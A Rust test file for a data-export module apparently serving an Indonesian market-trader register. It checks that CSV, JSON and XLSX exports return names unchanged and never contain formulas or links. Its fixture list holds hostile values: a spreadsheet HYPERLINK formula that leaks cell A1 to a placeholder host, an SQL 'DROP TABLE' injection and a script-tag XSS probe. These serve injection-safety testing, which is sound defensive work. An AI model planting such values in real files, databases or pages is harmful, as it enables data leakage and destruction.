//! Hostile and foreign names go through every format and come back exactly.

use std::convert::Infallible;
use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};

use super::*;

const COLUMNS: [Column; 6] = [
    Column {
        key: "name",
        label_id: "Nama",
        label_en: "Name",
        kind: CellKind::Text,
        personal: true,
    },
    Column {
        key: "phone",
        label_id: "HP",
        label_en: "Phone",
        kind: CellKind::Text,
        personal: true,
    },
    Column {
        key: "visits",
        label_id: "Jumlah kunjungan",
        label_en: "Visits",
        kind: CellKind::Int,
        personal: false,
    },
    Column {
        key: "dry",
        label_id: "Bahan kering",
        label_en: "Dry goods",
        kind: CellKind::Bool,
        personal: false,
    },
    Column {
        key: "last_date",
        label_id: "Kunjungan terakhir",
        label_en: "Last visit",
        kind: CellKind::Date,
        personal: false,
    },
    Column {
        key: "share",
        label_id: "Capaian",
        label_en: "Progress",
        kind: CellKind::Percent,
        personal: false,
    },
];

fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "=HYPERLINK(\"http://x/?\"&A1,\"klik\")",
        "+62811",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\0=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "http://x/a",
        "mailto:a@b",
        "'Abd",
        "''",
        "a \"quoted\" name",
        "a\nb",
        "a\r\nb",
        "a,b;c|d",
        "🌶 Bu Cabai",
        "محمد",
        "ꦗꦮ",
        "Robert'); DROP TABLE traders;--",
        "0812 0000 0123",
        "007",
        "232-233",
        "1e5",
        "TRUE",
        "_x0041_",
        " spaces ",
        "a\u{2028}b\u{85}c",
        "a\u{7f}\u{1}b",
        "{=1}",
        "<script>alert(1)</script>",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push("é".repeat(200));
    names
}

fn rows() -> Vec<Result<Vec<Cell>, Infallible>> {
    (0..)
        .zip(names())
        .map(|(n, name)| {
            Ok(vec![
                Cell::Text(name),
                Cell::Text("+6281200000123".to_owned()),
                Cell::Int(-n),
                Cell::Bool(n % 2 == 0),
                NaiveDate::from_ymd_opt(2019, 3, 12).map_or(Cell::Empty, Cell::Date),
                Cell::Real(-0.25),
            ])
        })
        .collect()
}

fn plan() -> SheetPlan<'static> {
    SheetPlan {
        name: "Pedagang",
        title: "=Pedagang",
        as_of: "Data sampai 12 Mar 2019",
        columns: &COLUMNS,
        side: &[],
    }
}

fn csv_bytes(language: Language) -> (Vec<u8>, Written) {
    let mut out = Vec::new();
    let written = write_csv(&mut out, &COLUMNS, language, rows().into_iter()).unwrap();
    (out, written)
}

fn xlsx_bytes() -> Vec<u8> {
    let mut out = Vec::new();
    write_xlsx(&mut out, &plan(), Language::Id, rows().into_iter()).unwrap();
    out
}

#[test]
fn csv_gives_every_name_back_and_no_cell_is_a_formula() {
    let (bytes, written) = csv_bytes(Language::Id);
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .from_reader(bytes.as_slice());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        COLUMNS.map(|column| column.label_id)
    );
    let records: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(records.len() as u64, written.rows);
    for (record, name) in records.iter().zip(names()) {
        for text in [&record[0], &record[1]] {
            assert!(
                !text.starts_with(['=', '+', '-', '@', '\t', '\r', '\0', '＝']),
                "{text:?}"
            );
        }
        assert_eq!(record[0].strip_prefix('\'').unwrap_or(&record[0]), name);
        assert_eq!(&record[1], "'+6281200000123");
        assert_eq!(&record[5], "-0.25");
    }
    assert_eq!(&records[3][2], "-3");
    assert_eq!(&records[3][4], "2019-03-12");
}

#[test]
fn the_register_reader_gives_the_names_of_our_own_csv_back() {
    let (bytes, _) = csv_bytes(Language::En);
    let table = crate::register::read(&bytes, "export.csv", &[]).unwrap();
    for (row, name) in table.rows.iter().zip(names()) {
        assert_eq!(
            row.cells.get("name").map(String::as_str),
            Some(name.trim_matches(|c: char| c.is_whitespace() || c == '\0'))
        );
        assert_eq!(
            row.cells.get("phone").map(String::as_str),
            Some("+6281200000123")
        );
    }
    assert_eq!(table.rows.len(), names().len());
}

#[test]
fn headings_follow_the_language_and_values_do_not() {
    let body = |bytes: &[u8]| {
        String::from_utf8(bytes.to_vec())
            .unwrap()
            .split_once("\r\n")
            .map(|(_, body)| body.to_owned())
    };
    let (id, en) = (csv_bytes(Language::Id).0, csv_bytes(Language::En).0);
    assert!(en.starts_with(b"\"Name\",\"Phone\",\"Visits\""));
    assert_ne!(id, en);
    assert_eq!(body(&id), body(&en));
}

#[test]
fn json_and_ndjson_give_every_name_back_under_language_free_keys() {
    let (mut json, mut ndjson) = (Vec::new(), Vec::new());
    write_json(&mut json, &COLUMNS, rows().into_iter()).unwrap();
    let written = write_ndjson(&mut ndjson, &COLUMNS, rows().into_iter()).unwrap();
    let array: Vec<serde_json::Value> = serde_json::from_slice(&json).unwrap();
    let text = String::from_utf8(ndjson).unwrap();
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!((lines.len() as u64, &array), (written.rows, &lines));
    for (value, name) in array.iter().zip(names()) {
        assert_eq!(value["name"], name);
    }
    assert!(text.starts_with("{\"name\":"));
    assert!(
        !text.contains(['\u{2028}', '\u{85}']),
        "some readers break lines there"
    );
    assert_eq!(array[3]["visits"], -3);
    assert_eq!(array[1]["dry"], false);
    let mut empty = Vec::new();
    write_json(
        &mut empty,
        &COLUMNS,
        std::iter::empty::<Result<Vec<Cell>, Infallible>>(),
    )
    .unwrap();
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&empty).unwrap(),
        serde_json::json!([])
    );
}

#[test]
fn a_workbook_gives_every_name_back_as_text() {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(xlsx_bytes())).unwrap();
    let range = workbook.worksheet_range("Pedagang").unwrap();
    assert_eq!(
        range.get_value((0, 0)),
        Some(&Data::String("=Pedagang".to_owned()))
    );
    assert_eq!(
        range.get_value((3, 0)),
        Some(&Data::String("Nama".to_owned()))
    );
    for (row, name) in (4..).zip(names()) {
        assert_eq!(range.get_value((row, 0)), Some(&Data::String(name)));
        assert_eq!(
            range.get_value((row, 1)),
            Some(&Data::String("+6281200000123".to_owned()))
        );
    }
    assert_eq!(range.get_value((7, 2)), Some(&Data::Float(-3.0)));
    assert!(
        matches!(range.get_value((4, 4)), Some(Data::DateTime(date)) if date.to_ymd_hms_milli().0 == 2019 && date.to_ymd_hms_milli().2 == 12)
    );
}

#[test]
fn what_xml_cannot_hold_is_replaced_in_a_workbook() {
    let row = [Ok::<_, Infallible>(vec![Cell::Text(
        "a\u{ffff}b\u{fffe}".to_owned(),
    )])];
    let columns = [COLUMNS[0]];
    let mut out = Vec::new();
    write_xlsx(
        &mut out,
        &SheetPlan {
            columns: &columns,
            ..plan()
        },
        Language::Id,
        row.into_iter(),
    )
    .unwrap();
    assert!(part(&out, "xl/sharedStrings.xml").contains("a\u{fffd}b\u{fffd}"));
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut text = String::new();
    zip::ZipArchive::new(Cursor::new(bytes))
        .unwrap()
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn a_workbook_has_no_formula_and_no_link_and_the_layout_of_the_office() {
    let bytes = xlsx_bytes();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f ") && !sheet.contains("<hyperlink"));
    let last = names().len() + 4;
    assert!(
        sheet.contains(&format!("<autoFilter ref=\"A4:F{last}\"")),
        "{sheet}"
    );
    assert!(
        sheet.contains("ySplit=\"4\"")
            && sheet.contains("landscape")
            && sheet.contains("paperSize=\"9\"")
    );
    let styles = part(&bytes, "xl/styles.xml");
    assert!(
        styles.contains("quotePrefix=\"1\"") && styles.contains("formatCode=\"@\""),
        "{styles}"
    );
    let names: Vec<String> = zip::ZipArchive::new(Cursor::new(&bytes))
        .unwrap()
        .file_names()
        .map(|name| name.unwrap().into_owned())
        .collect();
    assert!(
        !names.iter().any(|name| name.contains("worksheets/_rels")),
        "{names:?}"
    );
}

#[test]
fn twice_gives_the_same_bytes_and_the_hash_is_that_of_the_bytes() {
    let (bytes, written) = csv_bytes(Language::Id);
    assert_eq!(csv_bytes(Language::Id), (bytes.clone(), written.clone()));
    let hash: String = Sha256::digest(&bytes)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    assert_eq!(written.sha256, hash);
    let (first, second) = (xlsx_bytes(), xlsx_bytes());
    assert_eq!(first, second);
    // The time of making is the only thing that could differ a day later.
    assert!(part(&first, "docProps/core.xml").contains("2000-01-01T00:00:00Z"));
    assert_eq!(
        part(&first, "docProps/core.xml")
            .matches("2000-01-01")
            .count(),
        2
    );
}

#[test]
fn a_workbook_has_many_sheets_and_a_block_beside_the_table() {
    let mut builder = WorkbookBuilder::new(Language::En).unwrap();
    let side = [
        ("Campaign", Cell::Text("CRB-2019".to_owned())),
        ("Traders", Cell::Int(9000)),
    ];
    builder
        .add_sheet(
            &SheetPlan {
                side: &side,
                ..plan()
            },
            rows().into_iter(),
        )
        .unwrap();
    builder
        .add_sheet(
            &SheetPlan {
                name: "Kosong",
                ..plan()
            },
            std::iter::empty::<Result<Vec<Cell>, Infallible>>(),
        )
        .unwrap();
    let mut out = Vec::new();
    assert_eq!(builder.write(&mut out).unwrap().rows, names().len() as u64);
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(out)).unwrap();
    assert_eq!(workbook.sheet_names(), ["Pedagang", "Kosong"]);
    assert_eq!(
        workbook
            .worksheet_range("Pedagang")
            .unwrap()
            .get_value((4, 8)),
        Some(&Data::Float(9000.0))
    );
}

#[test]
fn points_have_no_geometry_until_one_is_set() {
    let points = [
        Point {
            market: "KNM".to_owned(),
            block: None,
            counts: vec![("listed", 3)],
            lon_lat: Some((108.5, -6.7)),
        },
        Point {
            market: "KNM".to_owned(),
            block: Some("B".to_owned()),
            counts: vec![("listed", 1)],
            lon_lat: None,
        },
    ];
    let mut out = Vec::new();
    let written = write_points(&mut out, points.into_iter().map(Ok::<_, Infallible>)).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(written.rows, 2);
    assert_eq!(
        value["features"][0]["geometry"]["coordinates"],
        serde_json::json!([108.5, -6.7])
    );
    assert_eq!(value["features"][1]["geometry"], serde_json::Value::Null);
    assert_eq!(
        value["features"][1]["properties"],
        serde_json::json!({"market": "KNM", "block": "B", "listed": 1})
    );
}

#[test]
fn a_failure_leaves_no_half_file_and_the_older_one_as_it_was() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a.csv");
    prepare_file(&path, |out| {
        write_csv(out, &COLUMNS, Language::Id, rows().into_iter())
    })
    .and_then(Ready::put)
    .unwrap();
    let before = std::fs::read(&path).unwrap();
    let broken = rows()
        .into_iter()
        .map(|row| row.map_err(RowError::from))
        .chain([Err(RowError::from("the store went away"))]);
    let error =
        prepare_file(&path, |out| write_csv(out, &COLUMNS, Language::Id, broken)).unwrap_err();
    assert_eq!(error.code(), "export_rows");
    assert_eq!(std::fs::read(&path).unwrap(), before);
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 1);
    let short = [Ok::<_, Infallible>(vec![Cell::Empty])];
    let error =
        prepare_file(&path, |out| write_ndjson(out, &COLUMNS, short.into_iter())).unwrap_err();
    assert_eq!(error.code(), "export_row_shape");
    let missing = folder.path().join("nowhere").join("a.csv");
    let error = prepare_file(&missing, |out| {
        write_csv(out, &COLUMNS, Language::Id, rows().into_iter())
    })
    .unwrap_err();
    assert_eq!(
        (error.code(), error.hint().contains("folder")),
        ("folder_missing", true)
    );
}
